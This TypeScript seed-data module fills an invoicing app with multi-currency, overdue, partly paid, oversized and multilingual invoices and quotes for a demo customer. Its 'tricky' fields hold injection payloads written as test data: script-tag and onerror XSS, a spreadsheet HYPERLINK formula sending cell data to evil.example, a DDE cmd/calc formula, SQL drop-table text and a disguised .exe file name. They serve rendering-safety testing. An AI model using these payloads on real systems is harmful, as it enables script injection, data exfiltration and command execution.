import {globex} from './customers.js';
import {addDays} from './deterministic.js';
import {addInvoice, type LineSpec} from './documents.js';
import {asSaleLines} from './sale-lines.js';
import {addOffers, type Offer} from './sales.js';
import type {SeedRows} from './rows.js';

/** Currencies beside its euros; no PSP takes the pounds. */
const otherCurrencies = [
  {currency: 'USD', price: 6450},
  {currency: 'JPY', price: 9800},
  {currency: 'KWD', price: 19_125},
  {currency: 'GBP', price: 4990},
] as const;

/** Text that a widget, a PDF, a spreadsheet or a browser must show as it is and never act on. */
const trickyLines: readonly LineSpec[] = [
  {description: '<img src=x onerror="alert(1)"><script>alert(2)</script>', price: 100},
  {description: '=HYPERLINK("https://evil.example/?c="&A1,"Invoice")', price: 200},
  {description: "javascript:alert(3) \u202Egnp.exe\u202C {{7*7}} ${7*7} %00 \\ '; drop table invoices; --", price: 300},
  {description: 'ترخيص سنوي للمؤسسات (Northwind Enterprise) – 12 شهرًا', quantity: '12', price: 1250},
  {description: '企業向け年間ライセンス（ノースウインド・エンタープライズ版）', quantity: '3', price: 4900},
  {description: 'Größenänderung à l’été, naïve café — Ångström, Łódź, İstanbul 👩🏽‍🔧', price: 1500},
  {
    description: 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaftslizenz'.repeat(3),
    price: 4200,
  },
];

/** Open, overdue, partly paid and paid invoices in each other currency, and some with difficult text. */
export function addDifficultOnes(rows: SeedRows, today: string, nextNumber: () => string): void {
  for (const {currency, price} of otherCurrencies) {
    [-90, -6, 5, 21].forEach((due, index) => {
      addInvoice(rows, globex, {
        key: `${currency}-${index}`,
        number: nextNumber(),
        issuedOn: addDays(today, due - 30),
        dueOn: addDays(today, due),
        currency,
        taxes: globex.taxes,
        origin: {type: 'subscription', number: `S-4${index}-${currency}`},
        lines: [
          {description: 'Northwind Enterprise', unit: 'seat', quantity: String(7 + index), price, discount: '12.5'},
        ],
        ...(due === -90 && {
          payments: (total) => [{amount: total, on: addDays(today, -95), method: {type: 'bank_transfer'}}],
        }),
        ...(due === 5 && {
          payments: (total) => [
            {amount: Math.floor(total / 4), on: addDays(today, -2), method: {type: 'bank_transfer'}},
          ],
        }),
        terms: globex.words.terms,
      });
    });
  }
  const tricky = {currency: 'EUR', taxes: globex.taxes, origin: {type: 'manual'}} as const;
  addInvoice(rows, globex, {
    ...tricky,
    key: 'tricky',
    number: nextNumber(),
    issuedOn: addDays(today, -2),
    dueOn: addDays(today, 28),
    reference: '=1+1|"><svg onload=alert(4)>',
    lines: trickyLines,
    notes: '</script><script>alert(5)</script>\nSecond line, plain text.',
    terms: "@SUM(1+1)*cmd|' /C calc'!A0",
  });
  addInvoice(rows, globex, {
    ...tricky,
    key: 'large',
    number: nextNumber(),
    issuedOn: addDays(today, -6),
    dueOn: addDays(today, 24),
    reference:
      'FRAMEWORK AGREEMENT 2026/EMEA/PROCUREMENT/000000000000417 – SEE ANNEX C, SCHEDULE 12, PARAGRAPH 4 (b) (iii)',
    lines: [{description: 'Northwind Enterprise, global licence', quantity: '1', price: 987_654_321_09}],
  });
}

/** Quotes in each other currency, one for very much, and one whose every text is difficult. */
export function addDifficultQuotes(rows: SeedRows, today: string, nextNumber: () => string): void {
  const [, billing] = globex.users;
  const evil = '<img src=x onerror=alert(6)>\u202Egnp.exe\u202C =1+1';
  const offers: Offer[] = otherCurrencies.map(({currency, price}, index) => ({
    key: `quote-${currency}`,
    currency,
    versions: [
      {
        issuedOn: addDays(today, -4 - index),
        lines: [
          {
            key: 'seats',
            description: 'Northwind Enterprise',
            unit: 'seat',
            quantity: '9',
            unitPrice: price,
            discountPercent: '12.5',
          },
          {
            key: 'archive',
            description: 'Northwind Archive, 1 TB',
            unit: 'TB',
            quantity: '1.5',
            unitPrice: price,
            option: {minQuantity: '0', maxQuantity: '40'},
          },
        ],
      },
    ],
    validUntil: addDays(today, 12 + index),
    signatureRequired: index % 2 === 0,
    downPaymentPercent: '30',
  }));
  addOffers(
    rows,
    globex,
    [
      ...offers,
      {
        key: 'tricky-quote',
        title: evil,
        versions: [{issuedOn: addDays(today, -1), lines: asSaleLines(trickyLines)}],
        validUntil: addDays(today, 29),
        origin: {type: 'partner', name: evil},
        signatureRequired: true,
        reference: evil,
        terms: "@SUM(1+1)*cmd|' /C calc'!A0",
        notes: '</script><script>alert(7)</script>\nSecond line, plain text.',
        messages: [
          {
            by: billing.name,
            on: today,
            role: 'customer',
            text: `${evil}\njavascript:alert(8) https://evil.example/?q=1`,
          },
        ],
      },
      {
        key: 'large-quote',
        title:
          'FRAMEWORK AGREEMENT 2026/EMEA/PROCUREMENT/000000000000417 – SEE ANNEX C, SCHEDULE 12, PARAGRAPH 4 (b) (iii)',
        versions: [
          {
            issuedOn: addDays(today, -3),
            lines: [
              {key: 'licence', description: 'Northwind Enterprise, global licence', unitPrice: 987_654_321_09},
              ...Array.from({length: 60}, (_, index) => ({
                key: `site-${index}`,
                description: `Northwind Enterprise, site ${index + 1} of 60`,
                unit: 'seat',
                quantity: String(10 + index),
                unitPrice: 5900,
              })),
            ],
          },
        ],
        validUntil: addDays(today, 60),
        signatureRequired: true,
      },
    ],
    nextNumber,
  );
}
